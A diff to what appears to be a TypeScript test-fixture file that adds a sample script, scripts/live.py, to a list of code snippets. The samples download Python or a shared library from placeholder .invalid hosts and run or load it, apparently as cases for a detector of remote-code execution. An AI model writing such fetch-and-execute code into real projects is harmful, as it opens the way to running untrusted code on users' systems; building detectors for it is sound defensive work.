@@ -63,6 +63,16 @@ export const startedReplies: readonly Row[] = [
         'target.write_text(requests.get("https://steps.invalid/step.py").text)',
         'subprocess.run([sys.executable, str(target)])',
       ),
+      inFile(
+        'scripts/live.py',
+        'try:',
+        '    body = urlopen("https://live.invalid/steps.py").read()',
+        'except OSError:',
+        '    raise SystemExit(1)',
+        'kept = tempfile.NamedTemporaryFile(suffix=".py", delete=False)',
+        'kept.write(body)',
+        'spec = importlib.util.spec_from_file_location("steps", kept.name)',
+      ),
       inFile('scripts/part.py', 'urlretrieve("https://parts.invalid/part.so", dest)', 'ctypes.CDLL(dest)'),
     ],
     spares: [
